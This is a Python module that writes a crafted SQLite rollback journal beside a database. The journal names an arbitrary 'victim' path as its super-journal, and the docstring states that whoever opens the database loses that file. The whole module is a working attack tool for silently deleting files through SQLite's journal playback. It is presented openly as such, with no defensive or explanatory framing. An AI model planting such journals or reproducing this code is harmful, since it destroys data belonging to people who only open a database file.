"""A rollback journal that SQLite plays back when it opens the database beside it.

It names a file as its super-journal, which SQLite deletes then: https://sqlite.org/fileformat2.html.
"""

from __future__ import annotations

import os
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_LOCK_BYTE = 0x40000000  # its page is never in a journal


def plant_journal(database: Path, victim: Path) -> Path:
    """Writes the journal beside a database; whoever opens that in place loses `victim`."""
    page = struct.unpack(">H", database.read_bytes()[16:18])[0]
    pages = database.stat().st_size // page
    head = (_MAGIC + struct.pack(">IIIII", 0, 1234, pages, _SECTOR, page)).ljust(_SECTOR, b"\0")
    name = os.fsencode(victim)
    tail = struct.pack(">I", _LOCK_BYTE // page + 1) + name
    tail += struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(head + tail)
    return journal
